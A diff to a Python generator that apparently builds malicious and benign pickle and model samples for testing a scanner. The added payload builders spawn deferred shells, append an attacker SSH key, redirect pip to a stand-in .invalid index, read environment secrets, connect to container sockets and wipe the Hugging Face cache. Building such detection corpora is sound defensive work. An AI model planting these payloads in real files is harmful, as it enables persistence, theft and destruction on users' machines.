@@ -34,13 +34,17 @@ import zlib
 from dataclasses import dataclass
 from typing import Any, Callable
 
+# Same seed, same bytes: set iteration order (dill globals, frozensets) follows the hash seed.
+if os.environ.get("PYTHONHASHSEED") != "0":
+    os.execve(sys.executable, [sys.executable, *sys.argv], {**os.environ, "PYTHONHASHSEED": "0"})
+
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 sys.dont_write_bytecode = True  # keep the source tree free of __pycache__
 
 import containers  # noqa: E402
 import models  # noqa: E402
 from catalog import LABELS, Sample, bytes_writer  # noqa: E402
-from pickle_asm import Call, Global, Memo, Ref, Seq, assemble, attr, inject, protocol_of  # noqa: E402
+from pickle_asm import Call, Global, Seq, assemble, attr, inject, protocol_of  # noqa: E402
 
 MANIFEST = "manifest.jsonl"
 SAMPLES_DIR = "samples"
@@ -566,12 +570,69 @@ def m_pathlib_git_credentials(d):
                    f"read ~/.git-credentials; connect {host}:{port}", build)
 
 
+def m_atexit_spawn(d):
+    cmd = d.shell_cmd()
+    return Payload("atexit-deferred-spawn", "atexit.register(os.system, cmd): nothing at load, a shell at interpreter exit",
+                   SH, lambda p: Call(G("atexit", "register"), (G(d.pick(["os", "posix"]), "system"), cmd)))
+
+
+def m_timer_spawn(d):
+    cmd, delay = d.shell_cmd(), float(d.r.randint(1, 20))
+    return Payload("threading-timer-deferred-spawn", f"threading.Timer({delay}, os.system, [cmd]).start(): fires after the load",
+                   SH, lambda p: Call(attr(Call(G("threading", "Timer"), (delay, G("os", "system"), [cmd])), "start")))
+
+
+def m_authorized_keys(d):
+    key = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{d.hexs(32)} ops@{d.invalid_host()}\n"
+    return Payload("ssh-authorized-keys-append", "appends an attacker key to ~/.ssh/authorized_keys",
+                   "write ~/.ssh/authorized_keys",
+                   lambda p: Call(attr(Call(G("builtins", "open"), (expanduser(d, "~/.ssh/authorized_keys"), "a")), "write"),
+                                  (key,)))
+
+
+def m_pip_conf(d):
+    conf = f"[global]\nindex-url = http://pypi.{d.hexs(6)}.invalid/simple\ntrusted-host = pypi.{d.hexs(6)}.invalid\n"
+    return Payload("pip-conf-index-hijack", "writes ~/.config/pip/pip.conf pointing pip at an attacker index",
+                   "write ~/.config/pip/pip.conf",
+                   lambda p: Seq(Call(G("os", "makedirs"), (expanduser(d, "~/.config/pip"), 0o755, True)),
+                                 Call(attr(Call(G("builtins", "open"), (expanduser(d, "~/.config/pip/pip.conf"), "w")),
+                                           "write"), (conf,))))
+
+
+def m_proc_environ(d):
+    path = d.pick(["/proc/self/environ", "/proc/1/environ"])
+    return Payload("proc-environ-read", f"open({path!r}, 'rb').read(): every secret in the environment",
+                   f"read {path}", lambda p: Call(attr(Call(G("builtins", "open"), (path, "rb")), "read")))
+
+
+def m_environ_decoy(d):
+    var = d.pick(["AWS_SECRET_ACCESS_KEY", "HF_TOKEN"])
+    return Payload("environ-decoy-read", f"operator.getitem(os.environ, {var!r}) kept in the loaded dict (no network)",
+                   f"call os.environ; env {var}",
+                   lambda p: {"token": Call(G("_operator", "getitem"), (G("os", "environ"), var)), "v": 1})
+
+
+def m_container_socket(d):
+    path = d.pick(["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"])
+    return Payload("container-runtime-socket", f"AF_UNIX connect to {path}: a container-escape attempt",
+                   f"connect unix {path}",
+                   lambda p: Call(attr(Call(G("socket", "socket"), (1, 1)), "connect"), (path,)))
+
+
+def m_hf_cache_wipe(d):
+    return Payload("hf-cache-wipe", "shutil.rmtree(~/.cache/huggingface/hub): destroys other models",
+                   "delete ~/.cache/huggingface/hub",
+                   lambda p: Call(G("shutil", "rmtree"), (expanduser(d, "~/.cache/huggingface/hub"), True)))
+
+
 PAYLOAD_TECHNIQUES = [
     m_os_popen, m_pty_spawn, m_os_execv, m_posix_spawn, m_spawnv, m_subprocess_variants,
     m_ssh_key_copy_connect, m_urlopen_invalid, m_http_client, m_ipv6_connect, m_smtp, m_udp_sendto,
     m_ctypes_variants, m_memfd_exec, m_mmap_shellcode, m_string_runner, m_methodcaller,
     m_reduce_getattr, m_sys_modules, m_builtins_import_chain, m_systemd_unit, m_cron_spool,
     m_local_bin_chmod, m_kill_pid1, m_dns_long_label, m_env_token_dns, m_pathlib_git_credentials,
+    m_atexit_spawn, m_timer_spawn, m_authorized_keys, m_pip_conf, m_proc_environ, m_environ_decoy,
+    m_container_socket, m_hf_cache_wipe,
 ]
 
 
@@ -848,10 +909,10 @@ def b_torch_module_variant(d):
     t = models.torch()
     t.manual_seed(d.r.getrandbits(31))
     n = d.r.randint(2, 16)
-    layers = [t.nn.Linear(n, 8), d.pick([t.nn.GELU, t.nn.Tanh, t.nn.SiLU])(), t.nn.LayerNorm(8),
-              t.nn.Dropout(0.1), t.nn.Linear(8, d.r.randint(1, 4))]
+    act = d.pick([t.nn.GELU, t.nn.Tanh, t.nn.SiLU])
+    layers = [t.nn.Linear(n, 8), act(), t.nn.LayerNorm(8), t.nn.Dropout(0.1), t.nn.Linear(8, d.r.randint(1, 4))]
     return Made("benign", "torch-nn-module-variant", "pytorch-zip", ".pt",
-                "torch.save of a whole nn.Sequential(Linear, activation, LayerNorm, Dropout, Linear)",
+                f"torch.save of a whole nn.Sequential(Linear, {act.__name__}, LayerNorm, Dropout, Linear)",
                 "call torch.nn.modules.container.Sequential", bytes_writer(torch_bytes(t.nn.Sequential(*layers))))
 
 
@@ -931,7 +992,7 @@ def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--out", required=True, help="output directory (its samples/ and manifest are replaced)")
     parser.add_argument("--seed", required=True, type=int)
-    parser.add_argument("--count", type=int, default=36, help="number of samples (default 36)")
+    parser.add_argument("--count", type=int, default=40, help="number of samples (default 40)")
     parser.add_argument("--quiet", action="store_true")
     args = parser.parse_args()
     if args.count < 1:
